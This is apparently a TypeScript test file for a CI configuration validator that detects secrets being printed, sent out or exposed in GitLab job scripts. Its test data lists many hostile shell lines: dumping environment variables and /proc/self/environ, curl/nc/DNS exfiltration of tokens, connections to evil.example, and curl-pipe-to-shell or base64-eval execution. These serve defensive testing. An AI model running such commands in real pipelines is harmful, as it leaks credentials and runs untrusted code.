// Where secrets go in the shell of jobs: what prints or sends one is found, what CI jobs really do with them is let through.
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { bashAlone, validated } from './validate-files.ts';

const folder = await mkdtemp(join(tmpdir(), 'pivo-validate-bash-'));
const tools = await bashAlone(folder);
afterAll(() => rm(folder, { recursive: true, force: true }));

/** The errors and warnings of the check of secrets for each script, all in one pipeline. */
async function found(scripts: readonly string[], options: Parameters<typeof validated>[1] = {}): Promise<string[][]> {
  const heads = scripts.map((script, at) => `job${at}:\n  image: alpine:3.20.3\n  script:\n    - |\n${script.split('\n').map((line) => `      ${line}`).join('\n')}\n`);
  const problems = (await validated({ '.gitlab-ci.yml': heads.join('') }, { tools, ...options })).filter(({ check }) => check === 'secrets');
  return scripts.map((_, at) => problems.filter(({ message }) => message.startsWith(`job job${at} `)).map(({ severity, message }) => `${severity} ${message.slice(`job job${at} `.length)}`));
}

const PRINTED = [
  'echo $DEPLOY_TOKEN', 'echo "token: ${DEPLOY_TOKEN}"', 'printf "%s" "$DB_PASSWORD"', 'cat <<< "$API_KEY"', 'cat <<EOF\n$API_KEY\nEOF', 'printenv DEPLOY_TOKEN', 'env', 'printenv', 'export -p', 'set', 'declare -p', 'env | sort', 'sudo env',
  'echo "$DEPLOY_TOKEN" | base64', 'base64 <<< "$DEPLOY_TOKEN"', 'echo "$DEPLOY_TOKEN" | rev | tee out.txt', 'echo "${DEPLOY_TOKEN:0:4} ${DEPLOY_TOKEN:4}"', 'X=$DEPLOY_TOKEN\necho "$X"', 'export X="a$DEPLOY_TOKEN"; Y=$X; echo $Y',
  'X=$(echo "$DEPLOY_TOKEN" | base64)\necho $X', 'read X <<< "$DEPLOY_TOKEN"; echo "$X"', 'for x in $DEPLOY_TOKEN; do echo "$x"; done', 'echo "$DEPLOY_TOKEN" | while read x; do echo "$x"; done', 'N=DEPLOY_TOKEN; echo "${!N}"',
  'bash -c \'echo $DEPLOY_TOKEN\'', 'sh -c "echo $DEPLOY_TOKEN"', 'eval "echo \\$DEPLOY_TOKEN"', 'trap \'echo $DEPLOY_TOKEN\' EXIT', 'say() { echo "$1"; }\nsay "$DEPLOY_TOKEN"', '/bin/echo $DEPLOY_TOKEN', '"ec"ho $DEPLOY_TOKEN', 'e=echo; $e "$DEPLOY_TOKEN"', 'command echo $DEPLOY_TOKEN', 'busybox echo $DEPLOY_TOKEN', 'timeout 5 echo $DEPLOY_TOKEN',
  'echo "$DEPLOY_TOKEN" | xargs echo', 'echo $DEPLOY_TOKEN >&2', 'echo $DEPLOY_TOKEN > /dev/stderr', 'echo "$DEPLOY_TOKEN" > out.txt; cat out.txt', 'if true; then echo $DEPLOY_TOKEN; fi', '{ echo $DEPLOY_TOKEN; }', '(echo $DEPLOY_TOKEN)', 'case x in x) echo $DEPLOY_TOKEN;; esac',
  'python3 -c "import os; print(os.environ[\'DEPLOY_TOKEN\'])"', 'node -p process.env.DEPLOY_TOKEN', 'node -e "console.log(process.env)"', 'awk \'BEGIN { print ENVIRON["DEPLOY_TOKEN"] }\'', 'awk -v t="$DEPLOY_TOKEN" \'BEGIN { print t }\'', 'cat /proc/self/environ', 'set -x\ndeploy --token "$DEPLOY_TOKEN"', 'bash -x deploy.sh "$DEPLOY_TOKEN"', 'set -euxo pipefail; deploy "$DEPLOY_TOKEN"',
  'sh <<\'E\'\necho $DEPLOY_TOKEN\nE', 'bash -s <<< \'echo $DEPLOY_TOKEN\'', 'echo \'echo $DEPLOY_TOKEN\' | sh', 'printf "env\\n" | bash', 'python3 - <<\'E\'\nimport os\nprint(os.environ["DEPLOY_TOKEN"])\nE', 'python3 <<\'E\'\nimport os\nfor k, v in os.environ.items(): print(k, v)\nE', 'node -p process.env', 'ruby -e \'puts ENV.to_h\'',
  'xxd < /proc/self/environ', 'xargs -0 -a /proc/self/environ echo', 'mapfile -d "" all < /proc/self/environ; echo "${all[@]}"', '{ cat; } < /proc/1/environ', 'X=$(</proc/self/environ); echo "$X"', 'echo "$DEPLOY_TOKEN" > t; echo "$(<t)"', 'curl -T /proc/self/environ https://known.example/', 'cat <<\'E\' | sh\necho $DEPLOY_TOKEN\nE',
  'echo $CI_JOB_TOKEN', 'echo "$CI_REPOSITORY_URL"', 'echo "$DEPLOY_TOKEN" | mystery', 'cat <(echo $DEPLOY_TOKEN)', 'echo `echo $DEPLOY_TOKEN`', 'grep . <<< "$DEPLOY_TOKEN"', 'perl -e \'print $ENV{DEPLOY_TOKEN}\'',
];

const SENT = [
  'curl -d "$DEPLOY_TOKEN" https://known.example/x', 'curl --data-raw "t=$DEPLOY_TOKEN" https://known.example', 'curl "https://known.example/?t=$DEPLOY_TOKEN"', 'curl https://known.example/$(echo $DEPLOY_TOKEN | base64)', 'echo "$DEPLOY_TOKEN" | curl -d @- https://known.example', 'wget --post-data="$DEPLOY_TOKEN" https://known.example', 'echo "$DEPLOY_TOKEN" | nc known.example 80', 'nslookup "$DEPLOY_TOKEN.known.example"',
  'X=$(curl -d "$DEPLOY_TOKEN" https://known.example)', 'echo "$DEPLOY_TOKEN" > t; curl -F file=@t https://known.example', 'sh -c "curl -d $DEPLOY_TOKEN https://known.example"', 'curl -T .netrc -d "$MASKED" https://known.example',
];

const HOSTS = [
  'curl -fsS https://evil.example/x -o x', 'curl -fsS evil.example/x -o x', 'wget -q http://10.1.2.3/x', 'curl http://2130706433/x', 'git clone git@evil.example:a/b.git', 'git clone https://u@evil.example/a/b.git', 'npm publish --registry=https://evil.example/', 'pip install --index-url "https://evil.example/simple" x', 'ssh deploy@evil.example ls', 'scp a deploy@evil.example:/b', 'nc evil.example 80 < a', 'exec 3<>/dev/tcp/evil.example/80', 'docker login -u a --password-stdin evil.example', 'H=evil.example; curl "https://$H/x"', 'H=evil; curl "https://$H.example/x"', 'curl "https://${H}.evil.example"', 'curl -H "Authorization: Bearer $DEPLOY_TOKEN" https://evil.example', 'python3 -c "import urllib.request as u; u.urlopen(\'https://evil.example\')"',
];

const RUN = ['eval "$(echo ZWNobw== | base64 -d)"', 'bash -c "$(base64 -d <<< ZWNobw==)"', 'curl -fsSL https://known.example/x | sh', 'curl -fsSL https://known.example/x | sudo bash -s -- -y', 'wget -qO- https://known.example/x | bash', 'bash <(curl -fsSL https://known.example/x)', 'bash -c "$(curl -fsSL https://known.example/x)"', 'eval "$(curl -fsSL https://known.example/x)"', 'source <(curl -fsSL https://known.example/x)', 'curl https://known.example/x | python3 -', 'curl https://known.example/x | tar xz | sh', 'echo ZWNobyBoaQo= | base64 -d | sh'];

const FINE = [
  'echo "$CI_REGISTRY_PASSWORD" | docker login -u "$CI_REGISTRY_USER" --password-stdin "$CI_REGISTRY"', 'echo "$KUBE_TOKEN" > token.txt', 'echo "//registry.npmjs.org/:_authToken=$NPM_TOKEN" > .npmrc', 'echo "$GPG_PRIVATE_KEY" | base64 -d | gpg --batch --import', 'echo "$SSH_PRIVATE_KEY" | tr -d "\\r" | ssh-add -', 'test -n "$DEPLOY_TOKEN"', '[ -n "$DEPLOY_TOKEN" ] || { echo "DEPLOY_TOKEN is not set"; exit 1; }', 'echo "${DEPLOY_TOKEN:+it is set}"', 'deploy --token "$DEPLOY_TOKEN"', 'TWINE_PASSWORD="$PYPI_TOKEN" twine upload dist/*', 'curl --fail -H "PRIVATE-TOKEN: $DEPLOY_TOKEN" https://known.example/api', 'curl -u "me:$DEPLOY_TOKEN" https://known.example/api', 'RESULT=$(curl -H "Authorization: Bearer $DEPLOY_TOKEN" https://known.example/api); echo "$RESULT"',
  'curl -fsSL https://known.example/x.tar.gz -o x.tar.gz && echo "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef  x.tar.gz" | sha256sum -c -', 'curl -fsS https://known.example/x.json | jq .', 'curl -fsS https://known.example/x | python3 -m json.tool', 'env NODE_ENV=test npm test', 'set -euo pipefail', 'export PATH="$PWD/bin:$PATH"', 'printf -v X %s "$DEPLOY_TOKEN"', 'cat <<EOF > config\ntoken=$DEPLOY_TOKEN\nEOF', 'curl http://localhost:8080/health', 'curl "http://db:5432"', 'curl "https://$DEPLOY_HOST/health"', 'git push "https://oauth2:${DEPLOY_TOKEN}@known.example/a/b.git" HEAD', '# curl https://evil.example', 'echo "see the docs"', 'npm ci --no-audit && npm test', 'echo "::add-mask::$DEPLOY_TOKEN"', 'echo "$COMPASS_DIR $PASSED $MAX_TOKENS $AUTHOR"', 'sed -i "s/TOKEN/$DEPLOY_TOKEN/" config', './mvnw -B verify', 'for f in *.sh; do bash -n "$f"; done', 'tar czf out.tgz dist && ls -l',
];

describe('secrets in scripts', () => {
  it('printed by any way are found', async () => {
    const all = await found(PRINTED);
    expect(PRINTED.filter((_, at) => !(all[at] ?? []).some((each) => /^error .*(?:prints|-x prints)/.test(each)))).toEqual([]);
  });

  it('sent by any way are found, also to hosts that are known', async () => {
    const all = await found(SENT, { secretVariables: ['MASKED'] });
    expect(SENT.filter((_, at) => !(all[at] ?? []).some((each) => each.startsWith('error sends')))).toEqual([]);
  });

  it('hosts that nobody named are found', async () => {
    const all = await found(HOSTS);
    expect(HOSTS.filter((_, at) => !(all[at] ?? []).some((each) => /^error (?:speaks to|opens a connection)/.test(each)))).toEqual([]);
  });

  it('what is downloaded and run at once is found', async () => {
    const all = await found(RUN);
    expect(RUN.filter((_, at) => !(all[at] ?? []).some((each) => each.startsWith('error runs with')))).toEqual([]);
  });

  it('kept all together in a file are told to the person', async () => {
    expect(await found(['env > public/out.txt', 'set > all'])).toEqual([['warning keeps all variables, secret ones too, in public/out.txt'], ['warning keeps all variables, secret ones too, in all']]);
  });

  it('what jobs really do is let through', async () => {
    const all = await found(FINE, { knownHosts: ['known.example', 'registry.example'] });
    expect(FINE.flatMap((script, at) => (all[at] ?? []).map((each) => `${script}: ${each}`))).toEqual([]);
  });

  it('a masked variable is secret whatever its name, and what is set from a secret is one', async () => {
    expect((await found(['echo $PLAIN'], { secretVariables: ['PLAIN'] }))[0]).toEqual(['error prints the secret variable PLAIN']);
    const files = { '.gitlab-ci.yml': 'a:\n  image: alpine:3.20.3\n  variables: {PLAIN: "x$DEPLOY_TOKEN"}\n  script: [echo $PLAIN]\n' };
    expect(await validated(files, { tools })).toContainEqual(expect.objectContaining({ check: 'secrets', severity: 'error', line: 4 }));
  });

  it('are found behind any number of warnings, and it is said where there were more', async () => {
    const all = (await found(['set -x\n'.repeat(300) + 'echo hello', 'echo $DEPLOY_TOKEN']))[1];
    expect(all).toEqual(['error prints the secret variable DEPLOY_TOKEN']);
    const text = `a:\n  image: alpine:3.20.3\n  script:\n${'    - set -x\n'.repeat(300)}`;
    expect((await validated({ '.gitlab-ci.yml': text }, { tools })).filter(({ check }) => check === 'secrets').map(({ message }) => message).at(-1)).toBe('and more: only the first 200 are told');
  });

  it('shells in shells, as deep as they like, end', async () => {
    const deep = Array.from({ length: 40 }).reduce<string>((inner) => `$(echo ${inner})`, '$DEPLOY_TOKEN');
    expect((await found([`echo ${deep}`]))[0]).toContainEqual(expect.stringMatching(/^error prints/));
    expect((await found([`eval eval eval eval eval eval eval eval 'echo $DEPLOY_TOKEN'`]))[0]).toContainEqual(expect.stringMatching(/^error prints/));
  });
});

describe('values in files', () => {
  /** Made when the test runs, so that no file of ours holds what looks like one. */
  const values = Object.fromEntries(Object.entries({ aws: ['AKIA', 'ABCDEFGHIJKLMNOP'], gitlab: ['glpat', '-abcdefghijklmnopqrst'], github: ['ghp', '_abcdefghijklmnopqrstuvwxyz0123456789'], pem: ['-----BEGIN', ' RSA PRIVATE KEY-----'], url: ['https://me:', 'hunter2@known.example/x'], random: ['q8Zr3Xw9Lk2Vn5Tb', '7Yc1Mf4Hd6Js0Pg8Ra'] }).map(([name, pieces]) => [name, pieces.join('')]));

  it.each(Object.entries(values))('that look like a secret (%s) are found in every kind of file, and never repeated', async (_, value) => {
    const files = { '.gitlab-ci.yml': `a:\n  image: alpine:3.20.3\n  script:\n    - deploy --with "${value}"\n`, Dockerfile: `FROM alpine:3.20.3\nLABEL x="${value}"\nUSER me\n`, 'nginx.conf': `# ${value}\n`, 'run.sh': `X="${value}"\n` };
    const problems = (await validated(files, { tools })).filter(({ check, message }) => check === 'secrets' && message.includes('looks like a secret'));
    expect(problems.map(({ path, line }) => `${path} ${line}`)).toEqual(['.gitlab-ci.yml 4', 'Dockerfile 2', 'nginx.conf 1', 'run.sh 1']);
    expect(JSON.stringify(problems)).not.toContain(value);
  });

  it('digests, commit ids and references are none', async () => {
    const text = `a:\n  image: alpine@sha256:${'0a1b'.repeat(16)}\n  variables: {POSTGRES_PASSWORD: postgres, TOKEN_URL: "$CI_API_V4_URL", DB: "postgres://app:\${DB_PASSWORD}@db/app"}\n  script: ['deploy --token="$DEPLOY_TOKEN" --sha ${'a1'.repeat(20)} # checksum']\n`;
    expect((await validated({ '.gitlab-ci.yml': text }, { tools })).filter(({ check }) => check !== 'schema')).toEqual([]);
  });
});
